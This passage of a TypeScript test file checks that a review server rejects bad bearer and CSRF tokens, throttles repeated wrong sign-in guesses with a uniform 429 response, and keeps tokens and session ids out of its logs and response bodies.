      });
      expect(badBearer.statusCode).to.equal(401);
      const badCsrf = await app.inject({
        method: 'POST',
        url: '/bulk',
        headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({
          action: 'acknowledge',
          ids: id,
          by: 'x',
          _csrf: `${csrf}x`,
        }).toString(),
      });
      expect(badCsrf.statusCode).to.equal(403);

      const logged = stream.text();
      // It did log: requests (the site's own access log, by path), the sign-in, the refusals.
      expect(logged).to.include('review: request');
      expect(logged).to.include('review: signed in');
      expect(logged).to.include('review: wrong bearer token');
      expect(logged).to.include('review: sign-in with a wrong token');
      expectNoSecret({ 'review server log': logged }, [TOKEN, sessionId, csrf as string]);
    });
  });
  describe('(e) a throttled address: the right token is refused like a wrong one, and no token is logged', () => {
    const db = useFreshDatabase('sec_review_throttle');
    const TOKEN = secret('review');
    let sql: Pool;
    let app: FastifyInstance;
    const stream = captureStream();

    before(async () => {
      sql = sqlPool(db.url);
      app = createReviewServer({
        pool: sql,
        token: TOKEN,
        logger: pino({ level: 'trace' }, stream),
        signInThrottle: { maxFailures: 4 },
      });
      await app.ready();
    });
    after(async () => {
      await app?.close();
      await sql?.end();
    });

    it('four wrong guesses (form and bearer), then the right token and a fifth guess both get the same 429; the log names the lockout, not the guesses', async () => {
      const guesses = [secret('guess'), secret('guess'), secret('guess'), secret('guess'), secret('guess')];
      const login = (token: string) =>
        app.inject({
          method: 'POST',
          url: '/login',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          payload: new URLSearchParams({ token, next: '/' }).toString(),
        });
      const api = (token: string) =>
        app.inject({
          method: 'GET',
          url: '/api/discrepancies',
          headers: { authorization: `Bearer ${token}` },
        });
      const bodies: string[] = [];
      for (const [i, guess] of guesses.slice(0, 4).entries()) {
        const response = i % 2 === 0 ? await login(guess) : await api(guess);
        expect(response.statusCode, `guess ${i + 1}`).to.equal(401);
        bodies.push(response.body);
      }
      const right = { form: await login(TOKEN), api: await api(TOKEN) };
      const fifth = { form: await login(guesses[4]), api: await api(guesses[4]) };
      for (const kind of ['form', 'api'] as const) {
        expect(right[kind].statusCode, kind).to.equal(429);
        expect(right[kind].headers['retry-after'], kind).to.equal('900');
        expect(right[kind].headers['set-cookie'], kind).to.equal(undefined);
        expect(right[kind].body, kind).to.equal(fifth[kind].body);
        bodies.push(right[kind].body, fifth[kind].body);
      }

      const logged = stream.text();
      expect(logged).to.include('review: too many wrong tokens from one address');
      expect(logged).to.include('review: sign-in refused, too many wrong tokens from this address');
      expectNoSecret({ 'review server log': logged, 'response bodies': bodies.join('\n') }, [
        TOKEN,
        ...guesses,
      ]);
    });
  });
});
